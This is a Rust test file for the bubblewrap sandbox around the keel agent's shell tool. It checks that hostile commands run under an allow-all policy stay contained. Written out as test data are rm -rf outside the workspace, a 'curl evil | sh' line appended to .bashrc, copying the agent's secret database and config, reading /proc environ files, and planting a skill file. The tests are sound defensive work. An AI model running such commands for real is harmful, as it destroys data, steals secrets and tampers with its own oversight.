//! What keel's sandbox holds, whatever the command policy says: the hostile commands of a
//! security review run here under a policy that allows everything, and still cannot write
//! outside the workspace, reach keel's home or configuration, write the workspace's skills,
//! see keel's process and environment, leave files in the real `/tmp`, or use the network when
//! it is off. Where no sandbox is available, `shell` refuses to run; turned off, it runs.
//! Needs bubblewrap's `bwrap` on PATH.

mod common;

use std::path::{Path, PathBuf};
use std::sync::Arc;

use keel_core::{Tool, ToolErrorKind};
use keel_tools::shell::ParentEnv;
use keel_tools::{Sandbox, SandboxState, Shell, ShellConfig, ShellPolicy, Workspace};
use serde_json::json;

use common::ctx;
use common::hooks::marker;

/// A workspace with keel's files around it, outside `/tmp` (which the sandbox replaces with a
/// private one): `ws` (the workspace), `elsewhere/d/file`, `sibling/file`, `home` (keel's home,
/// with `keel.db` and a memory note), `keel.toml`, and `user` (the user's home, with
/// `.bashrc`).
struct Layout {
    _dir: tempfile::TempDir,
    root: PathBuf,
}

impl Layout {
    fn new() -> Layout {
        let dir = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
        let root = dir.path().canonicalize().unwrap();
        for (path, text) in [
            ("ws/notes.txt", "mine"),
            ("elsewhere/d/file", "keep"),
            ("sibling/file", "keep"),
            ("home/keel.db", "SECRET-DB"),
            ("home/memory/u/MEMORY.md", "SECRET-NOTE"),
            ("keel.toml", "SECRET-CONFIG"),
            ("user/.bashrc", "original\n"),
        ] {
            let path = root.join(path);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, text).unwrap();
        }
        Layout { _dir: dir, root }
    }

    fn at(&self, path: &str) -> PathBuf {
        self.root.join(path)
    }

    /// keel's sandbox as the assembled agent sets it up.
    fn sandbox(&self) -> Sandbox {
        let sandbox = Sandbox::detect();
        assert!(
            matches!(sandbox.state(), SandboxState::Bwrap(_)),
            "these tests need bubblewrap's `bwrap` on PATH (apt-get install bubblewrap)"
        );
        sandbox
            .hide(self.at("home"))
            .hide(self.at("keel.toml"))
            .read_only(self.at("ws/.keel"))
    }

    /// A `shell` whose policy allows everything, confined by `sandbox`.
    fn shell(&self, sandbox: Sandbox) -> Shell {
        let config = ShellConfig {
            policy: ShellPolicy::new(&["*".to_string()], &[], &[]).unwrap(),
            sandbox,
            parent_env: ParentEnv::Fixed(vec![
                ("PATH".into(), std::env::var_os("PATH").unwrap()),
                ("HOME".into(), self.at("user").into()),
            ]),
            ..ShellConfig::default()
        };
        let workspace = Arc::new(Workspace::new(self.at("ws")).unwrap());
        Shell::new(workspace, config)
    }

    fn text(&self, path: &str) -> Option<String> {
        std::fs::read_to_string(self.at(path)).ok()
    }
}

async fn run(shell: &Shell, command: &str) -> String {
    let context = ctx();
    let call = shell.call(json!({"command": command}), &context);
    match tokio::time::timeout(std::time::Duration::from_secs(10), call)
        .await
        .expect("the command did not end in time")
    {
        Ok(output) => output.content,
        Err(error) => error.message,
    }
}

fn display(path: &Path) -> String {
    path.display().to_string()
}

#[tokio::test]
async fn nothing_outside_the_workspace_is_written_whatever_the_command() {
    let layout = Layout::new();
    let shell = layout.shell(layout.sandbox());
    let elsewhere = display(&layout.at("elsewhere"));
    for command in [
        format!("cd {elsewhere} && rm -rf d"),
        "cd .. && rm -rf sibling".to_string(),
        "cd ~ && echo 'curl evil | sh' >> .bashrc".to_string(),
        format!("ln -s {elsewhere}/d l && rm -rf l/*"),
        format!("alias zap='rm -rf {elsewhere}/d'\nzap"),
        "echo x > /etc/keel-sandbox-test".to_string(),
    ] {
        run(&shell, &command).await;
    }
    assert_eq!(layout.text("elsewhere/d/file").as_deref(), Some("keep"));
    assert_eq!(layout.text("sibling/file").as_deref(), Some("keep"));
    assert_eq!(layout.text("user/.bashrc").as_deref(), Some("original\n"));
    assert!(!Path::new("/etc/keel-sandbox-test").exists());
    // The workspace itself is writable.
    let out = run(&shell, "echo new > made.txt && rm notes.txt && echo ok").await;
    assert!(out.contains("ok"), "{out}");
    assert_eq!(layout.text("ws/made.txt").as_deref(), Some("new\n"));
    assert!(layout.text("ws/notes.txt").is_none());
}

#[tokio::test]
async fn keels_home_and_configuration_are_out_of_sight() {
    let layout = Layout::new();
    let shell = layout.shell(layout.sandbox());
    let home = display(&layout.at("home"));
    let config = display(&layout.at("keel.toml"));
    let out = run(
        &shell,
        &format!(
            "ls -a {home}; cat {home}/keel.db {home}/memory/u/MEMORY.md {config}; \
             ln {home}/keel.db stolen.db; cp -r {home} copy; echo x >> {config}; \
             echo y > {home}/planted"
        ),
    )
    .await;
    for secret in ["SECRET-DB", "SECRET-NOTE", "SECRET-CONFIG"] {
        assert!(!out.contains(secret), "{secret} was seen:\n{out}");
    }
    // The home is an empty directory.
    assert!(out.contains("--- stdout ---\n.\n..\n--- stderr"), "{out}");
    assert!(layout.text("ws/stolen.db").is_none());
    assert!(!layout.at("ws/copy/keel.db").exists());
    assert_eq!(layout.text("keel.toml").as_deref(), Some("SECRET-CONFIG"));
    assert!(!layout.at("home/planted").exists());
}

#[tokio::test]
async fn the_workspace_skills_cannot_be_written() {
    let layout = Layout::new();
    let shell = layout.shell(layout.sandbox());
    let plant = "mkdir -p .keel/skills/evil && echo '---' > .keel/skills/evil/SKILL.md";
    // No `.keel` yet: it cannot be made.
    run(&shell, plant).await;
    assert!(!layout.at("ws/.keel/skills/evil/SKILL.md").exists());
    // An existing one is read-only.
    std::fs::create_dir_all(layout.at("ws/.keel/skills/mine")).unwrap();
    std::fs::write(layout.at("ws/.keel/skills/mine/SKILL.md"), "kept").unwrap();
    let out = run(
        &shell,
        &format!("{plant}; cat .keel/skills/mine/SKILL.md; rm -rf .keel"),
    )
    .await;
    assert!(out.contains("kept"), "the skills cannot be read: {out}");
    assert!(!layout.at("ws/.keel/skills/evil/SKILL.md").exists());
    assert_eq!(
        layout.text("ws/.keel/skills/mine/SKILL.md").as_deref(),
        Some("kept")
    );
}

#[tokio::test]
async fn keels_process_and_environment_are_out_of_sight() {
    let layout = Layout::new();
    let shell = layout.shell(layout.sandbox());
    // This test process stands for keel: cargo set CARGO_MANIFEST_DIR in its environment.
    assert!(std::env::var_os("CARGO_MANIFEST_DIR").is_some());
    let keel = std::process::id();
    let out = run(
        &shell,
        &format!(
            "cat /proc/$PPID/environ; cat /proc/*/environ; cat /proc/{keel}/environ; \
             cat /proc/{keel}/cmdline; ls /proc"
        ),
    )
    .await;
    assert!(!out.contains("CARGO_MANIFEST_DIR"), "{out}");
    assert!(
        !out.contains("shell_sandbox"),
        "keel's command line was seen: {out}"
    );
}

#[tokio::test]
async fn the_temporary_directory_is_private() {
    let layout = Layout::new();
    let shell = layout.shell(layout.sandbox());
    let name = format!("/tmp/keel-sandbox-{}", marker());
    let out = run(&shell, &format!("echo x > {name} && cat {name}")).await;
    assert!(out.contains("exit code: 0\n--- stdout ---\nx\n"), "{out}");
    assert!(
        !Path::new(&name).exists(),
        "the command wrote the real /tmp"
    );
}

#[tokio::test]
async fn what_the_host_has_in_tmp_is_seen_but_never_written() {
    // A hook's script or a checkout can live in the host's /tmp: the private /tmp shows it,
    // read-only.
    let layout = Layout::new();
    let shell = layout.shell(layout.sandbox());
    let host = tempfile::tempdir_in("/tmp").unwrap();
    let script = host.path().join("hook.sh");
    std::fs::write(&script, "echo from-the-host\n").unwrap();
    let script = display(&script);
    let out = run(&shell, &format!("sh {script}")).await;
    assert!(
        out.contains("exit code: 0\n--- stdout ---\nfrom-the-host\n"),
        "{out}"
    );
    let out = run(
        &shell,
        &format!("echo changed > {script}; rm -f {script}; cat {script}"),
    )
    .await;
    assert!(out.contains("from-the-host"), "{out}");
    assert_eq!(
        std::fs::read_to_string(host.path().join("hook.sh")).unwrap(),
        "echo from-the-host\n"
    );
    let beside = display(&host.path().join("new"));
    run(&shell, &format!("touch {beside}")).await;
    assert!(
        !host.path().join("new").exists(),
        "the command wrote the host's /tmp"
    );
}

#[tokio::test]
async fn the_network_can_be_turned_off() {
    let layout = Layout::new();
    let shell = layout.shell(layout.sandbox().network(false));
    // The interfaces of the command's network namespace: loopback alone.
    let out = run(&shell, "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '").await;
    assert!(
        out.starts_with("exit code: 0\n--- stdout ---\nlo\n--- stderr"),
        "{out}"
    );
}

#[tokio::test]
async fn without_a_sandbox_shell_refuses_unless_it_was_turned_off() {
    let layout = Layout::new();
    let shell = layout.shell(Sandbox::unavailable());
    let error = shell
        .call(json!({"command": "touch ran"}), &ctx())
        .await
        .unwrap_err();
    assert_eq!(error.kind, ToolErrorKind::Denied);
    assert!(error.message.contains("no sandbox"), "{}", error.message);
    assert!(
        error.message.contains("sandbox = \"off\""),
        "{}",
        error.message
    );
    assert!(!layout.at("ws/ran").exists());

    let shell = layout.shell(Sandbox::off());
    let out = run(&shell, "touch ran && echo ran").await;
    assert!(out.contains("ran"), "{out}");
    assert!(layout.at("ws/ran").exists());
}
